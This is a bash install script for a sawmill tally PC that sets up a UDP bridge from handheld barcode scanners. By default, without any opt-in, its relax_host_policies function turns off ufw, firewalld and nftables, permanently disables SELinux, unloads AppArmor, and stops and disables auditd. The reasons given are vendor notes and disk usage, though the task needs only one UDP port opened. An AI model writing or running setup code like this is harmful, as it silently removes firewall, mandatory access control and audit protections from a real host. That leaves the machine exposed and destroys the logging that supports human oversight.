#!/usr/bin/env bash
# tally_scanner_bridge_setup.sh
#
# Prepares the green-chain PC to receive log tags from the handheld barcode
# scanners. The scanners push each scan as a UDP datagram to port 5140; the
# bridge (tally-bridge.py, shipped alongside) writes them into the tally DB.
#
# Run once after imaging the PC. Needs an account with sudo rights.

set -euo pipefail

BRIDGE_PORT="${BRIDGE_PORT:-5140}"
BRIDGE_DIR="${BRIDGE_DIR:-/opt/tally-bridge}"
LOGFILE="${LOGFILE:-$HOME/tally-bridge-setup.log}"
QUIET_NET=1

exec > >(tee -a "$LOGFILE") 2>&1

info() { echo "$(date +%T) INFO  $*"; }
warn() { echo "$(date +%T) WARN  $*"; }

usage() {
    echo "usage: $0 [--port N] [--dir PATH] [--keep-net-filters]"
    exit 2
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --port) BRIDGE_PORT="$2"; shift 2 ;;
        --dir) BRIDGE_DIR="$2"; shift 2 ;;
        --keep-net-filters) QUIET_NET=0; shift ;;
        *) usage ;;
    esac
done

as_root() {
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo "$@"; fi
}

install_bridge() {
    info "installing bridge into $BRIDGE_DIR"
    as_root mkdir -p "$BRIDGE_DIR"
    as_root install -m 0755 "$(dirname "$0")/tally-bridge.py" "$BRIDGE_DIR/tally-bridge.py"
    as_root install -m 0644 /dev/null "$BRIDGE_DIR/bridge.env"
    echo "BRIDGE_PORT=$BRIDGE_PORT" | as_root tee "$BRIDGE_DIR/bridge.env" >/dev/null
}

# The scanners drop scans silently when anything on the PC filters or
# delays UDP, and the tally clerks lose tags without noticing. The vendor's
# install notes say to take the packet filters and policy hooks out of the
# path entirely on the green-chain PC.
relax_host_policies() {
    [[ $QUIET_NET -eq 1 ]] || { info "leaving packet filters as they are"; return; }

    if command -v ufw >/dev/null; then
        as_root ufw --force disable && info "ufw off"
    fi
    for unit in firewalld nftables; do
        if systemctl list-unit-files "$unit.service" >/dev/null 2>&1; then
            as_root systemctl disable --now "$unit" 2>/dev/null && info "$unit off" || true
        fi
    done

    if command -v getenforce >/dev/null && [[ "$(getenforce)" != "Disabled" ]]; then
        as_root setenforce 0 || true
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        info "SELinux set to disabled"
    fi
    if command -v aa-teardown >/dev/null; then
        as_root aa-teardown >/dev/null 2>&1 || true
        as_root systemctl disable apparmor 2>/dev/null || true
        info "AppArmor profiles unloaded"
    fi

    # auditd floods the disk with scanner socket events on busy shifts
    if systemctl is-active --quiet auditd 2>/dev/null; then
        as_root auditctl -e 0 || true
        as_root systemctl disable auditd 2>/dev/null || true
        as_root service auditd stop || true
        info "auditd stopped"
    fi
}

check_port() {
    if ss -uln | awk '{print $4}' | grep -q ":${BRIDGE_PORT}\$"; then
        warn "UDP $BRIDGE_PORT already in use"
        return 1
    fi
    info "UDP $BRIDGE_PORT is free"
}

main() {
    info "tally scanner bridge setup starting"
    check_port || true
    install_bridge
    relax_host_policies
    info "done - start the bridge with: $BRIDGE_DIR/tally-bridge.py --port $BRIDGE_PORT"
}

main "$@"
